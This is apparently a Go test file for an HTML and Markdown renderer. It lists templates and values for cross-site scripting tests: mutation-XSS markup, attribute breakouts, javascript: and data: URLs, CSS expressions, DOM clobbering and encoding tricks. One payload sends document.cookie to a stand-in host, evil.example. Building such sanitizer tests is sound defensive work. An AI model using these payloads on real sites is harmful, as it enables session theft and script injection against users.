package render_test

import "strconv"

func decimal(r rune) string     { return strconv.Itoa(int(r)) }
func hexadecimal(r rune) string { return strconv.FormatInt(int64(r), 16) }

// classes are templates of attacks.
var classes = []string{
	// mutation XSS: text for one parser, markup for the next
	`<svg><{raw}><img src=x {on}={js}></{raw}></svg>`,
	`<math><mtext><table><mglyph><{raw}><!--</{raw}><img title="--&gt;&lt;img src=1 {on}={js}&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src {on}={js}>`,
	`<svg></p><{raw}><a id="</{raw}><img src=1 {on}={js}>">{text}</a>`,
	`<math><annotation-xml encoding="text/html"><{raw}><img src=x {on}={js}></{raw}></annotation-xml></math>`,
	`<svg><foreignObject><p><{raw}></p></foreignObject><img src={url}></svg>{text}`,
	`<noscript><p title="</noscript><img src=x {on}={js}>">{text}</p></noscript>`,
	`<template><{tag}><script>{js}</script></{tag}></template>{text}`,
	`<{raw}><img alt="</{raw}><img src=x {on}={js}>"></{raw}>`,
	`<p title="</{raw}><script>{js}</script>">{text}</p>`,
	`<math><mi//xlink:href="{url}">{text}</mi></math>`,
	`<svg><animate attributeName=href values="{url}"/><a><text y=10>{text}</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image {on}='{js}'/></svg>#x"/></svg>`,
	// attributes that end early, or never
	`<img src="{url}" alt="{text}" {on}="{js}">`,
	`<img src='x'alt='"><script>{js}</script>'>`,
	"<img src=`x` alt=`` {on}={js}//`>{text}",
	`<a href="/x" title='{text}" {on}="{js}'>{text}</a>`,
	`<a/href="{url}"/{on}={js}>{text}</a>`,
	`<img src=x:x {on}{blank}={js} title={long}>`,
	`<a href=/a"{on}={js}>{text}<a href='{url}`,
	`<{tag} {long} {on}={js}>{text}</{tag}>`,
	`<img alt="{long}" src="/a.jpg?{long}">`,
	`<a href="/x" title="&lt;/title&gt;&lt;script&gt;{js}&lt;/script&gt;">{text}</a>`,
	`<img src="/a.jpg" alt="]]&gt;--&gt;&lt;/style&gt;&lt;img src=x {on}={js}&gt;">`,
	// addresses
	`<a href="{url}">{text}</a>`,
	`<a href={url}>{text}</a>`,
	`<img src="{url}" srcset="{url} 2x" data-src="{url}">`,
	`<iframe src="{url}" srcdoc="<script>{js}</script>"></iframe>{text}`,
	`<form action="{url}"><button formaction="{url}">{text}</button></form>`,
	`<base href="{url}"><a href="/x">{text}</a>`,
	`<object data="{url}"><embed src="{url}"><param name=x value="{url}">{text}</object>`,
	`<meta http-equiv=refresh content="0;url={url}"><link rel=stylesheet href="{url}">{text}`,
	`<video poster="{url}" {on}="{js}"><source src="{url}" onerror={js}></video>{text}`,
	`<blockquote cite="{url}"><q cite="{url}">{text}</q></blockquote>`,
	`<table background="{url}"><tr><td background="{url}">{text}</table>`,
	`<a href="/x" ping="{url}" target="{name}" download>{text}</a>`,
	// styles
	`<p style="{css}">{text}</p>`, `<{tag} style='{css}'>{text}</{tag}>`,
	`<style>{css}</style><p class="{name}">{text}</p>`,
	`<div style="text-align:center;{css}">{text}</div>`,
	// DOM clobbering
	`<form id="{name}"><input name="{name}"><input name=attributes></form>{text}`,
	`<img name="{name}" id="{name}" src="/a.jpg">`, `<a id="{name}" name="{name}" href="/x">{text}</a><a id="{name}"></a>`,
	`<h2 id="{name}">{text}</h2>`, `<pre><code class="{name} language-{name}">{js}</code></pre>`,
	`<pre><code class='language-{on}={js}'>{text}</code></pre>`,
	// what is nested wrongly
	`<table><{tag}><tr><{tag}><td>{text}<table><img src={url}></td></{tag}></table>`,
	`<table><caption><svg><{raw}></caption><td>{text}</{raw}>`,
	`<b><p><i></b>{text}</p></i><a href=/x><a href="{url}">{text}</a></a>`,
	`<select><{raw}></select><img src=x {on}={js}></{raw}>{text}`,
	`<ul><li><ol></ul><li>{text}<p></li></ol><{tag}></p>`,
	`</p></{tag}><{tag}></br></{tag}>{text}`, `<p><table><p>{text}</table></p><td>{text}`,
	`<frameset><frame src="{url}"></frameset>{text}`, `<plaintext>{text}</plaintext><script>{js}</script>`,
	// comments, declarations, sections
	`<!--><img src=x {on}={js}>-->{text}`, `<!--{text}--!><img src=x {on}={js}>-->`, `<!-- --{blank}><script>{js}</script> -->`,
	`<![CDATA[<{tag}>]]><script>{js}</script>]]>{text}`, `<svg><![CDATA[</svg><img src=x {on}={js}>]]></svg>{text}`,
	`<?xml version="1.0"?><?php {js} ?>{text}`, `<!DOCTYPE x [<!ENTITY e "{js}">]>&e;{text}`, `<!--[if IE]><script>{js}</script><![endif]-->{text}`,
	`<%= {js} %>{text}`,
	// characters
	`&lt;script&gt;{js}&lt;/script&gt;`, `&lt{raw}&gt<img src=x {on}={js}>`, `＜script＞{js}＜/script＞`,
	"<scr\x00ipt>{js}</scr\x00ipt>{text}", "<img\x0csrc=x\x0c{on}={js}>", "{text}\u202e<{tag}>\u2066{text}\ufeff</{tag}>\u2028",
	"\xc0\xbcscript\xc0\xbe{js}", "<a href=\"/x\xff\" title=\"\xf0\x9f\">{text}</a>", `<{tag}>&nbsp;&#0;&#xD800;&#x110000;&notit;{text}</{tag}>`,
	`<script>{js}</script>{text}`, `<scr<script>ipt>{js}</scr</script>ipt>{text}`, `<SCRIPT SRC={url}></SCRIPT>{text}`, `<{tag} is="x-{name}" slot="{name}" part={name}>{text}</{tag}>`,
	`<x-{name} {on}={js}><{tag}>{text}</{tag}></x-{name}>`, `<font color="{css}" face="{js}">{text}</font>`,
}

var markdowns = []string{
	"[{text}]({url})", "[{text}](<{url}>)", "![{text}\"{on}={js}]({url})", "![{text}]({url} \"{text}\\\" {on}={js}\")", "<{url}>",
	"[x]: {url} '{text}'\n[x]", "[{text}](/x '\"><script>{js}</script>')", "[![{text}]({url})]({url})",
	"```\"{on}={js}\n<script>{js}</script>\n```", "```{name}\n</code></pre><img src=x {on}={js}>\n```", "`<img src=x {on}={js}>`",
	"| <svg> | {text} |\n| --- | --- |\n| <{raw}> | </table><script>{js}</script> |", "# <{tag} {on}={js}>{text}",
	"<{tag}>\n\n[{text}]({url})\n\n</{tag}>", "<{raw}>\n\n<img src=x {on}={js}>\n\n</{raw}>", "*{text}<b>*</b>**{text}", "{text}\\<script>{js}</script>",
	"&lt;img src=x {on}={js}&gt;", "<!-- {text}\n\n--><img src=x {on}={js}>", "<a href='{url}'>**{text}**</a>", "<p align=center style=\"{css}\">{text}</p>",
	"http://example.com/{on}={js}<script>", "[{text}](&#106;avascript:{js})", "<svg><{raw}>{text}</{raw}></svg>", "{long}",
}

var payloads = []string{
	"alert(1)", "alert`1`", "alert&lpar;1&rpar;", "&#97;lert(1)", "fetch('//evil.example/'+document.cookie)", "\"-alert(1)-\"", "'><script>alert(1)</script>",
	"top[/al/.source+/ert/.source](1)", "\\u0061lert(1)", "x={toString(){alert(1)}}", "</script><script>alert(1)", "<!--<script>alert(1)//", "alert(1)//{long}",
}

var addresses = []string{
	"javascript:alert(1)", "javascript://%0aalert(1)", "javascript&colon;alert(1)", "javascript&#x3a;alert(1)", "vbscript:msgbox(1)", "livescript:x", "data:text/html,<script>alert(1)</script>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "//evil.example/x", `\\evil.example\x`, `/\evil.example`, "http://user:pass@evil.example/",
	"https://evil.example\"onmouseover=alert(1)", "https://evil.example/<script>", "https://evil.example/?a=1&b=2&lt=3&copy=4", "blob:https://x/1", "file:///etc/passwd", "feed:javascript:alert(1)",
	"view-source:x", "mailto:a@example.com?body=<script>", "tel:+86'onclick=alert(1)", "/a/b?x=</title>", "/a\"b'c`d", "./x", "#x", "?x", "x", "", "https:evil.example", "https:///evil.example", "http://[::1]/'", "http://例え.テスト/",
	"jav\tascript:alert(1)", "jav&#x0A;ascript:alert(1)", "\x01javascript:alert(1)", "\u3000javascript:alert(1)", "javascript\u200b:alert(1)", "ｊavascript:alert(1)", "/media/demo/a.jpg", "https://portal.example.cn/a/b", "cid:x", "intent://x#Intent;end", "weixin://dl/business/",
}

var (
	containers = []string{"p", "div", "b", "i", "a", "ul", "li", "table", "tr", "td", "th", "thead", "caption", "blockquote", "h1", "h3", "pre", "code", "figure", "figcaption", "span", "font", "center", "section",
		"svg", "math", "mtext", "mglyph", "malignmark", "desc", "foreignObject", "annotation-xml", "form", "select", "option", "button", "details", "summary", "dialog", "marquee", "template", "label", "ruby", "rt", "image", "body", "html", "head", "nobr", "sub", "u"}
	rawTexts = []string{"style", "script", "title", "textarea", "xmp", "noembed", "noframes", "noscript", "iframe", "plaintext", "template", "listing"}
	handlers = []string{"onerror", "onload", "OnClick", "onmouseover", "onfocus autofocus tabindex=1 onfocus", "ontoggle", "onanimationstart", "onpointerenter", "on\x0cerror", "on/error", "onbegin", "onwebkittransitionend", "xlink:onload", "formaction"}
	blanks   = []string{" ", "\t", "\n", "\r", "\x0c", "\x00", "\x01", "\x1f", "\u00a0", "\u00ad", "\u200b", "\u2028", "\u3000", "\ufeff", "&#9;", "&NewLine;", "&Tab;", "/", "&#0;"}
	styles   = []string{"background:url(javascript:alert(1))", "behavior:url(x.htc)", "-moz-binding:url(x)", "width:expression(alert(1))", "x:\"</style><script>alert(1)</script>", "position:fixed;inset:0;z-index:9999", "@import '//evil.example/x.css'",
		"color:red;}/*", "\\65xpression(alert(1))", "text-align:right;background-image:url('//evil.example/x')", "font-weight:bold\";onclick=alert(1)", "--x:{js}", "font-size:900px;color:transparent", "text-align:center"}
	clobbered = []string{"body", "attributes", "innerHTML", "cookie", "getElementById", "__proto__", "constructor", "parentNode", "nodeName", "location", "app", "forms", "currentScript", "firstChild", "hasAttribute", "\"><img src=x>"}
	languages = []string{"go", "", "\"><script>alert(1)</script>", "x onclick=alert(1)", "c++", "__proto__", "</style>"}
)
